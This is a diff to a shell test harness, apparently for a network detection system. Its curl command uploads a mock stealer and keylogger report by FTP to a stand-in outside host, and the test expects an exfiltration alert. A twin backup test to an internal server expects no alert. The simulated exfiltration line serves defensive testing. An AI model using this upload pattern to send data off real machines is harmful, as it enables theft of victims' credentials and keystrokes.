@@ -377,10 +377,10 @@ TEXT
 
 # --- reports and lookups --------------------------------------------------------------------------------------
 
-# hand_in NAME: a page of text goes to an FTP server outside under this name.
+# hand_in HOST NAME: a page of text goes to an FTP server under this name.
 hand_in() {
     printf 'Time: 11/26/2026 12:00:00<br>User Name: jane<br>Computer Name: DESKTOP-7<br><hr>nothing<br>' >"$work/page"
-    on client curl -s --max-time 5 -o /dev/null -T "$work/page" "ftp://alice:summer2026@203.0.113.50/$1" || true
+    on client curl -s --max-time 5 -o /dev/null -T "$work/page" "ftp://alice:summer2026@$1/$2" || true
 }
 
 sample_stealer_report() {
@@ -388,8 +388,8 @@ sample_stealer_report() {
     ftp_server server
     settle_all
     watch
-    hand_in PW_jane-DESKTOP-7_2026_11_26_12_00_00.html
-    hand_in KL_jane-DESKTOP-7_2026_11_26_12_20_00.html
+    hand_in 203.0.113.50 PW_jane-DESKTOP-7_2026_11_26_12_00_00.html
+    hand_in 203.0.113.50 KL_jane-DESKTOP-7_2026_11_26_12_20_00.html
     watched
     expect exfiltration 10.20.0.10 203.0.113.50 "two files named as a stealer names them"
     origin "Reports of a keylogger, by FTP" <<'TEXT'
@@ -400,15 +400,15 @@ TEXT
 
 sample_twin_ftp_backup() {
     begin twin_ftp_backup
-    ftp_server server
+    ftp_server
     settle_all
     watch
-    hand_in jane-DESKTOP-7_2026_11_26_12_00_00.zip
-    hand_in backup-2026-11-26.tar.gz
+    hand_in 10.20.0.20 jane-DESKTOP-7_2026_11_26_12_00_00.zip
+    hand_in 10.20.0.20 backup-2026-11-26.tar.gz
     watched
     quiet
     origin "A backup of a workstation, by FTP" <<'TEXT'
-curl on 10.20.0.10 puts two files on vsftpd at 203.0.113.50 (alice), one of them named after user, machine and time.
+curl on 10.20.0.10 puts two files on vsftpd at the internal server 10.20.0.20 (alice), one of them named after user, machine and time.
 TEXT
 }
 
